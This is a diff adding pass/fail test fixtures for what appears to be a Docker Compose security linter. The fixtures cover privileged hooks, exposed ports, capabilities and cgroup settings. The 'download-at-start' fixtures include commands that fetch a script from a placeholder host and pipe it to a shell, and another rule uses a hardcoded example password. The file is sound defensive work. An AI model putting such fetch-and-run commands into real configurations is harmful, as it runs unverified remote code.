@@ -254,4 +254,88 @@ export const composeExamples: Readonly<Record<string, Examples>> = {
     ],
     passes: [service("healthcheck: {test: [CMD, 'true']}"), service("image: a:1")],
   },
+  "compose-hook-privileged": {
+    fails: [
+      [service("post_start:", "  - command: ./chown.sh", "    privileged: true"), 5],
+      [service("pre_stop: [{command: ./stop.sh, user: root}]"), 3],
+    ],
+    passes: [service("post_start: [{command: ./init.sh, user: app}]"), service("image: a:1")],
+  },
+  "compose-download-at-start": {
+    fails: [
+      [service('command: sh -c "curl -s https://a.example/i.sh | sh"'), 3],
+      [service("entrypoint: [sh, -c]", "command: ['wget -qO- https://a.example/i | bash']"), 4],
+    ],
+    passes: [service("command: curl -f http://127.0.0.1/"), service("image: a:1")],
+  },
+  "compose-secret-command": {
+    fails: [
+      [service("command: redis-server --requirepass hunter2 --password=hunter2"), 3],
+      [service("command: ['--db-password', 'hunter2']"), 3],
+    ],
+    passes: [
+      service("command: app --password-file /run/secrets/db"),
+      service("command: app --password $$PASSWORD"),
+    ],
+  },
+  "compose-remote-include": {
+    fails: [["include:\n  - https://github.com/acme/base.git\nservices: {}", 2]],
+    passes: [service("image: a:1")],
+  },
+  "compose-cgroup": {
+    fails: [
+      [service("cgroup_parent: system.slice"), 3],
+      [service("cgroup: host"), 3],
+    ],
+    passes: [service("cgroup: private")],
+  },
+  "compose-default-network": {
+    fails: [["services:\n  a: {image: a}\n  b: {image: b}", 2]],
+    passes: ["services:\n  a: {networks: [x]}\n  b: {network_mode: none}", service("image: a:1")],
+  },
+  "compose-capabilities-kept": {
+    fails: [
+      [service("image: a:1"), 2],
+      [service("cap_drop: [NET_RAW]"), 3],
+    ],
+    passes: [service("cap_drop: [ALL]", "cap_add: [CHOWN]"), service("privileged: true")],
+  },
+  "compose-group-add": {
+    fails: [[service("group_add:", "  - app", "  - docker"), 5]],
+    passes: [service("group_add: ['1001']")],
+  },
+  "compose-volumes-from": {
+    fails: [[service("volumes_from: [db]"), 3]],
+    passes: [service("image: a:1")],
+  },
+  "compose-device-cgroup-rule": {
+    fails: [[service("device_cgroup_rules: ['b *:* rwm']"), 3]],
+    passes: [service("image: a:1")],
+  },
+  "compose-logging-none": {
+    fails: [[service("logging: {driver: none}"), 3]],
+    passes: [service("logging: {driver: local}")],
+  },
+  "compose-public-port": {
+    fails: [
+      [service("ports:", "  - 8080:80"), 4],
+      [service("ports: ['0.0.0.0:8080:80']"), 3],
+    ],
+    passes: [service("ports: ['127.0.0.1:8080:80']"), service("ports: ['5432:5432']")],
+  },
+  "compose-image-digest": {
+    fails: [[service("image: a:1"), 3]],
+    passes: [
+      service(`image: a@sha256:${"0123456789abcdef".repeat(4)}`),
+      service("build: .", "image: a:1"),
+    ],
+  },
+  "compose-cpu-limit": {
+    fails: [[service("image: a:1"), 2]],
+    passes: [service("cpus: 0.5"), service("deploy: {resources: {limits: {cpus: '1'}}}")],
+  },
+  "compose-oom-kill-disable": {
+    fails: [[service("oom_kill_disable: true"), 3]],
+    passes: [service("oom_kill_disable: false")],
+  },
 };
